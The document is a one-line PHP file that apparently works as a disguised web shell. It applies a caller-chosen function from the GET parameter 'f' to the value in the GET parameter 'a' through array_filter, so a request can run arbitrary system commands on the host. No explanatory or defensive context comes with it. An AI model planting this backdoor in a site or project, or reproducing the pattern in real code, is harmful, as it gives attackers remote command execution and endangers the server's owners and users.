<?php $x = array_filter(array($_GET["a"]), $_GET["f"]);
